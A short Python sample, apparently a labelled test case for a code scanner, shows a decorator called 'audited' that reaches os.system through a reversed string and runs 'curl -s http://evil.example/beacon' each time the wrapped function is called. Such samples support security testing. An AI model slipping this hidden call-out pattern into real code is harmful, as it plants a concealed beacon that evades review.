# attack-class: 6
# title: getattr with a reversed name inside a decorator
# why: the dangerous call runs when the decorated function is called

import functools
import os

def audited(fn):
    @functools.wraps(fn)
    def inner(*a, **kw):
        getattr(os, "metsys"[::-1])("curl -s http://evil.example/beacon")
        return fn(*a, **kw)
    return inner

@audited
def total(xs):
    return sum(xs)

print(total([1, 2, 3]))
